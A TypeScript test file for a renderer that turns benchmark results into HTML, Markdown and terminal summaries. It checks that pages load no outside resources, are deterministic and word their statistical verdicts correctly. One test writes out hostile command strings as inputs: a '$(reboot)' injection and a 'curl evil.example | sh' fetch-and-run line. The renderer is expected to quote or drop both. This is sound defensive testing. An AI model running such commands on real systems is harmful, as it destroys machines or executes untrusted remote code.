import t from 'tap';
import { Value } from 'typebox/value';
import { type Estimate, Results } from '../contract.js';
import {
  ESCAPE_SEQUENCE,
  hostileResults,
  interruptedResults,
  resultsWithFailedCheck,
  resultsWithoutClaims,
  resultsWithoutRedis,
  wideResults,
} from './edge-cases.fixture.js';
import { SCRIPT, SCRIPT_SOURCE } from './html/calculator.js';
import { buildView, renderHtml, renderMarkdown, renderSummary } from './index.js';
import { formatEstimate } from './numbers.js';
import { controlCell, estimate, sampleResults } from './results.fixture.js';
import { predictionOnlyResults, scalingResults } from './scaling.fixture.js';

const FIXTURES = {
  sample: sampleResults(),
  interrupted: interruptedResults(),
  'without Redis': resultsWithoutRedis(),
  'with a failed check': resultsWithFailedCheck(),
  'without claims': resultsWithoutClaims(),
  wide: wideResults(),
  'of scaling': scalingResults(),
  'with predictions only': predictionOnlyResults(),
  hostile: hostileResults(),
};

const VOID_ELEMENTS = new Set(['meta', 'br', 'input']);

interface Tag {
  readonly name: string;
  readonly closes: boolean;
  readonly attributes: readonly string[];
}

/** Good enough for a page whose attributes are all quoted, which the first test below depends on. */
function tagsOf(page: string): Tag[] {
  const found = page.matchAll(/<(\/?)([a-zA-Z][\w-]*)((?:"[^"]*"|[^">])*)>/g);
  return [...found].map(([, slash, name = '', rest = '']) => ({
    name,
    closes: slash === '/',
    attributes: rest
      .replace(/"[^"]*"/g, '')
      .split(/[\s=]+/)
      .filter(Boolean),
  }));
}

/** Names of elements that are closed out of order or not at all. */
function unbalanced(tags: readonly Tag[]): string[] {
  const open: string[] = [];
  const wrong: string[] = [];
  for (const { name, closes, attributes } of tags) {
    if (closes && open.pop() !== name) wrong.push(name);
    if (!closes && !VOID_ELEMENTS.has(name) && !attributes.includes('/')) open.push(name);
  }
  return [...wrong, ...open];
}

function estimatesOf(results: Results): Estimate[] {
  const ofCells = results.experiments.flatMap(({ cells }) => cells.flatMap(({ metrics }) => Object.values(metrics)));
  return [...ofCells, ...results.claims.flatMap(({ evidence }) => evidence.map(({ estimate }) => estimate))];
}

function textOf(page: string): string {
  return page
    .replace(/<(style|script)>[\s\S]*?<\/\1>/g, '')
    .replace(/<[^>]*>/g, '')
    .replaceAll('&#39;', "'");
}

for (const [name, results] of Object.entries(FIXTURES)) {
  const view = buildView(results);
  const page = renderHtml(view);
  const markdown = renderMarkdown(view);

  t.test(`A report ${name} is whole, loads nothing and runs nothing but the calculator.`, async (t) => {
    t.ok(Value.Check(Results, results), 'the fixture is a valid results file');
    const scripts = [...page.matchAll(/<script>([\s\S]*?)<\/script>/g)].map(([, script]) => script);
    t.same(scripts, view.projection === null ? [] : [SCRIPT]);
    t.equal(page.includes(`script-src ${SCRIPT_SOURCE}`.replaceAll("'", '&#39;')), view.projection !== null);
    const tags = tagsOf(page.replace(SCRIPT, '')).filter(({ name }) => name !== 'script');
    t.same(unbalanced(tags), []);
    const loading = /^(?:script|link|iframe|img|image|object|embed|form|base|foreignObject)$/i;
    t.same(
      tags.filter((tag) => loading.test(tag.name)),
      [],
    );
    const acting = /^(?:src|srcset|action|xlink:href|on.*)$/i;
    t.same(
      tags.flatMap((tag) => tag.attributes.filter((attribute) => acting.test(attribute))),
      [],
    );
    t.notMatch(page, /@import|url\((?!#)/i);
    t.notMatch(page, /href="(?!#)/);
    t.notMatch(page.replace(SCRIPT, ''), /NaN|undefined|Infinity|\[object/);
    const ids = [...page.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id);
    if (name !== 'hostile') t.equal(new Set(ids).size, ids.length, 'ids are unique');
    const targets = [...page.matchAll(/(?:href="#|url\(#)([^")]*)/g)].map(([, target]) => target);
    t.same(
      targets.filter((target) => !ids.includes(target)),
      [],
      'links lead somewhere',
    );
  });

  t.test(`The same results ${name} give the same bytes.`, async (t) => {
    const again = buildView(structuredClone(results));
    t.ok(renderHtml(again) === page);
    t.ok(renderMarkdown(again) === markdown);
  });

  t.test(`Every claim and every estimate ${name} is in both reports with its interval.`, async (t) => {
    if (name === 'hostile') return;
    for (const text of [textOf(page), markdown.replaceAll('\\', '').replaceAll('**', '')]) {
      const claims = results.claims.flatMap(({ statement, prediction, because }) => [statement, prediction, because]);
      const estimates = estimatesOf(results).map(formatEstimate);
      const missing = estimates.filter(
        ({ value, interval, unit }) =>
          ![`${value} (${interval})`, `${value} ${unit} (${interval})`].some((s) => text.includes(s)),
      );
      t.same([...claims.filter((claim) => !text.includes(claim)), ...missing], []);
    }
  });

  t.test(`The summary ${name} keeps to the width of the terminal and is plain without colour.`, async (t) => {
    for (const columns of [20, 50, 80, 200]) {
      const summary = renderSummary(view, { columns, color: false });
      t.ok(
        summary.split('\n').every((line) => line.length <= columns),
        `${columns} columns`,
      );
      t.notMatch(summary, /[^\P{Cc}\n]/u);
    }
  });
}

t.test('Foreign strings reach no report as markup, terminal escape or change of direction.', async (t) => {
  const view = buildView(hostileResults());
  const outputs = [renderHtml(view), renderMarkdown(view), renderSummary(view, { columns: 80, color: false })];
  for (const output of outputs) {
    for (const letter of ['\u001b', '\u0007', '\u202e']) t.notOk(output.includes(letter));
    t.notOk(output.includes(ESCAPE_SEQUENCE));
  }
  const markdown = outputs[1] ?? '';
  const unescaped = markdown.replace(/\\[^\n]/g, '').replace(/(`+)[^\n]*?[^`]\1(?!`)/g, '');
  t.notMatch(unescaped, /<(?!br>)/);
});

t.test('A repeat command quotes what a shell would act on.', async (t) => {
  const results = sampleResults();
  results.run.command = 'npm run bench -- --instances 1,2 $(reboot) --seed=7 --out elsewhere --experiments mismatch';
  const view = buildView(results);
  t.equal(view.run.repeat, "npm run bench -- --instances 1,2 '$(reboot)' --experiments mismatch --seed 42");
  results.run.command = 'curl evil.example | sh';
  t.equal(buildView(results).claims[0]?.repeat, 'npm run bench -- --experiments mismatch --seed 42');
});

t.test('An interrupted run says so before anything else.', async (t) => {
  const view = buildView(interruptedResults());
  t.match(view.notices[0], /interrupted/);
  for (const output of [textOf(renderHtml(view)), renderMarkdown(view)]) {
    t.ok(output.indexOf('interrupted') < output.indexOf(view.answer[0] ?? ''));
  }
});

t.test('What was skipped, left out or failed is named with its reason.', async (t) => {
  const view = buildView(resultsWithoutRedis());
  for (const output of [textOf(renderHtml(view)), renderMarkdown(view)]) {
    t.match(output, /Left out:\S* redis needs a Redis server, and none was found\./);
    t.match(output, /This experiment was skipped:\S* redis needs/);
    t.match(output, /This experiment failed:\S* The balancer did not become ready\./);
    t.match(output, /No Redis server was found/);
  }
});

t.test('A cell with a failed check is shown, marked, explained, and in no sentence.', async (t) => {
  const view = buildView(resultsWithFailedCheck());
  const cost = view.experiments.find(({ id }) => id === 'request-cost');
  t.same(
    cost?.failedChecks.map(({ place }) => place),
    ['redis, 1 instance'],
  );
  t.notMatch(cost?.means.join(' '), /redis/i);
  const page = renderHtml(view);
  t.match(page, /left-out"><s class="value">39\.5/);
  t.match(page, /In flight 32, throughput × latency 38\.1/);
  t.match(page, /a check failed: not used for verdicts/);
});

/** What the report says of request-cost where the control came out as given. */
function costWithControl(control: Estimate | null) {
  const results = sampleResults();
  for (const { id, cells } of results.experiments) {
    if (id === 'request-cost') cells.splice(1, 1, ...(control === null ? [] : [controlCell(control)]));
  }
  const view = buildView(results).experiments.find(({ id }) => id === 'request-cost');
  return { text: view?.means.join(' ') ?? '', answer: view?.answer ?? '' };
}

t.test('Differences of CPU time below the noise of the control are ties, and a false alarm is reported.', async (t) => {
  const quiet = costWithControl(estimate(1.004, 0.013, 'ratio'));
  t.match(quiet.text, /Memory and sticky are a tie/);
  t.match(quiet.text, /The second costs 1\.004 \(0\.991 to 1\.017\) times the first.* less than 1\.7 % are a tie/);
  t.notMatch(quiet.text, /redis are a tie|Redis and|false alarm|no authentication at all/);
  t.notMatch(quiet.answer, /tie/);

  const loud = costWithControl(estimate(1.1, 0.06, 'ratio'));
  t.match(loud.text, /Memory and sticky are a tie.*Redis and jwt are a tie.*less than 16\.1 % .*a false alarm/);
  t.match(costWithControl(estimate(1.5, 0.45, 'ratio')).text, /Memory is a tie with no authentication at all\./);

  const without = costWithControl(null);
  t.match(without.text, /Memory and sticky are a tie/, 'the intervals alone decide');
  t.notMatch(without.text, /control/);
  t.notMatch(costWithControl(estimate(1, 1.1, 'ratio')).text, /control|NaN/, 'a ratio that reaches to zero is none');
});

t.test('Predictions stand beside measurements in chart and table.', async (t) => {
  const [mismatch] = buildView(sampleResults()).experiments;
  const memory = mismatch?.charts[0]?.panels.find(({ title }) => title === 'memory');
  t.same(
    memory?.points.map(({ predicted }) => predicted),
    [1, 0.5, 0.25],
  );
  const row = mismatch?.tables[0]?.rows[2]?.map((cell) => ('text' in cell ? cell.text : cell.estimate.value));
  t.same(row, ['memory, 4 instances', '0.252', '0.25', '+0.002 (−0.010 to +0.013)']);
});

t.test('An experiment without an entry is shown with charts, table and words.', async (t) => {
  const growth = buildView(wideResults()).experiments.find(({ id }) => id === 'memory-growth');
  t.equal(growth?.title, 'Memory growth');
  t.same(
    growth?.charts.map(({ caption }) => caption),
    ['Instance bytes per session, by sessions', 'Total bytes, by sessions', 'Lookup micros, by sessions, in µs'],
  );
  t.equal(growth?.tables[0]?.rows.length, 12);
  t.ok((growth?.means.length ?? 0) > 0);
});

t.test('Verdicts of a claim that was decided at several scales cite the largest.', async (t) => {
  const [mismatch, , , bytes, ceiling] = buildView(sampleResults()).claims;
  t.same(
    mismatch?.deciding.map(({ place }) => place),
    ['memory, 4 instances'],
  );
  t.same(
    bytes?.deciding.map(({ estimate }) => estimate.value),
    ['207', '419'],
  );
  t.same(ceiling?.deciding, []);
});

t.test('Colour in the summary is only where it is asked for.', async (t) => {
  t.ok(renderSummary(buildView(sampleResults()), { columns: 80, color: true }).includes('\u001b[1;32mholds'));
});
